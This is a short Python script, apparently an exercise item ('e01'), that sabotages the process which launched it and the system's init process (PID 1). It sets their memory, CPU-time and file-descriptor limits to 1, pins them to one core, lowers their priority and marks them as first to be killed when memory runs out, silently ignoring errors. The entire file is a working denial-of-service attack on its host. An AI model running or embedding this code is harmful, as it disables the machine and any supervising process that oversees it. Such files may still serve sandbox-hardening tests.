"""Takes the time, the memory and the processors away from the process that forked it.

exercise: e01
"""

import os
import resource

for process in (os.getppid(), 1):
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
        try:
            resource.prlimit(process, limit, (1, 1))
        except OSError:
            pass
    for act in (
        lambda: os.sched_setaffinity(process, {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, process, 19),
        lambda: open(f"/proc/{process}/oom_score_adj", "w").write("1000"),
    ):
        try:
            act()
        except OSError:
            pass

raise RuntimeError("done")
